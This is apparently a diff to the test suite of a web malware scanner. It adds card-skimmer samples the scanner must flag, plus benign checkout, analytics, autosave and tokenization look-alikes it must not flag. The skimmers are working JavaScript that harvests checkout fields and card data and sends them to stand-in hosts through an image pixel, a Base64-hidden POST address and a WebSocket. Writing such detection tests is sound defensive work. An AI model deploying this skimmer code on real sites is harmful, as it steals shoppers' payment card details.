@@ -302,9 +302,96 @@ const FAMILIES: [string, string, string][] = [
     '/srv/shop/app/code/local/Pay/Model/Observer.php',
     `<?php\nif (!empty($_POST['payment']['cc_number'])) {\n  $row = base64_encode(json_encode(['n' => $_POST['payment']['cc_number'], 'x' => $_POST['payment']['cc_exp_month'], 'c' => $_POST['payment']['cc_cid']]));\n  file_put_contents(__DIR__ . '/../../../../../media/catalog/cache.jpg', $row . "\\n", FILE_APPEND);\n}\n`,
   ],
+  [
+    'a card skimmer gathering every field on a checkout page and sending them through an image\'s address',
+    '/srv/shop/js/mage/cookies.js',
+    `(function () {
+  function grab() {
+    var f = document.querySelectorAll('input, select, textarea'), o = {};
+    for (var i = 0; i < f.length; i++) if (f[i].name) o[f[i].name] = f[i].value;
+    if (o['payment[cc_number]'] || o['cardnumber']) {
+      var m = new Image();
+      m.src = 'https://cdn-stats.example.invalid/pixel.gif?d=' + btoa(JSON.stringify(o));
+    }
+  }
+  if (/onepage|checkout/.test(window.location.href)) document.addEventListener('click', grab, true);
+})();
+`,
+  ],
+  [
+    'a card skimmer posting every input of the checkout to an address hidden in Base64',
+    '/srv/shop/skin/frontend/default/js/lib.js',
+    `window.addEventListener('load', function () {
+  if (location.pathname.indexOf('checkout') < 0) return;
+  document.querySelector('#place-order').addEventListener('click', function () {
+    var data = {};
+    [].forEach.call(document.getElementsByTagName('input'), function (e) { data[e.id] = e.value; });
+    var x = new XMLHttpRequest();
+    x.open('POST', atob('aHR0cHM6Ly9hcGktanF1ZXJ5LmV4YW1wbGUuaW52YWxpZC9j'));
+    x.send(btoa(encodeURIComponent(JSON.stringify(data))) + '&cvv=' + (data.cc_cid || data.cvv || ''));
+  });
+});
+`,
+  ],
+  [
+    'a card skimmer sending a form\'s fields over a WebSocket when they hold a card',
+    '/srv/shop/media/js/x.js',
+    `var ws = new WebSocket('wss://ws.example.invalid/s');
+document.addEventListener('submit', function () {
+  var out = [];
+  document.querySelectorAll('form input').forEach(function (i) { out.push(i.name + '=' + i.value); });
+  if (out.join('&').match(/card|cc_num|cvc/i)) ws.send(btoa(out.join('&')));
+}, true);
+`,
+  ],
 ];
 
 const FAMILY_LOOKALIKES: [string, string, string][] = [
+  [
+    'a checkout\'s own card check posting the last four digits to its server',
+    '/srv/shop/js/checkout.js',
+    `// checkout validation: card number by Luhn, sent to our own server
+document.querySelector('#checkout-form').addEventListener('submit', function (e) {
+  var n = document.querySelector('[name="cc_number"]').value.replace(/\\s+/g, '');
+  if (!luhn(n)) { e.preventDefault(); return; }
+  fetch('/checkout/validate', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ last4: n.slice(-4) }) });
+});
+`,
+  ],
+  [
+    'an analytics pixel on every page, the checkout too',
+    '/srv/shop/js/stats.js',
+    `// analytics on every page, the checkout too
+(function () {
+  var p = new Image();
+  p.src = 'https://stats.example.com/p.gif?u=' + encodeURIComponent(location.href) + '&r=' + encodeURIComponent(document.referrer);
+  if (/checkout/.test(location.pathname)) p.src += '&funnel=checkout';
+})();
+`,
+  ],
+  [
+    'a form autosave keeping every field but the card\'s, posted to the site\'s API',
+    '/srv/shop/js/autosave.js',
+    `// a form autosave: every field kept in localStorage, posted to the site's draft API
+function autosave(form) {
+  var data = {};
+  form.querySelectorAll('input, select, textarea').forEach(function (el) { if (el.type !== 'password' && !/card|cvv|cvc/i.test(el.name)) data[el.name] = el.value; });
+  localStorage.setItem('draft', JSON.stringify(data));
+  fetch('https://www.example.com/api/drafts', { method: 'POST', body: JSON.stringify(data) });
+}
+`,
+  ],
+  [
+    'a payment provider\'s tokenization: the card\'s fields by id to its API',
+    '/srv/shop/js/pay.js',
+    `// payment provider tokenization: the card fields to the provider's API, a token back
+document.getElementById('pay').addEventListener('click', function () {
+  var card = { number: document.getElementById('cardnumber').value, cvc: document.getElementById('cvc').value, exp: document.getElementById('exp').value };
+  fetch('https://api.payments.example.com/v1/tokens', { method: 'POST', headers: { Authorization: 'Bearer pk_live_x' }, body: JSON.stringify({ card: card }) })
+    .then(function (r) { return r.json(); }).then(function (t) { document.getElementById('token').value = t.id; document.getElementById('checkout').submit(); });
+});
+`,
+  ],
   [
     'a payment module sending the card to its gateway and logging only the last four digits',
     '/srv/shop/modules/pay/pay.php',
@@ -364,14 +451,14 @@ describe('scan: common families written from their published shapes (session 43)
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every family', () => assert.equal(FAMILIES.length, 11));
+  it('ran every family', () => assert.equal(FAMILIES.length, 14));
   for (const [name, path, src] of FAMILY_LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 10));
+  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 14));
 });
 
 // Dual-use shapes: flagged for a look, not called malicious (an audit and a recovery tool are the same code).
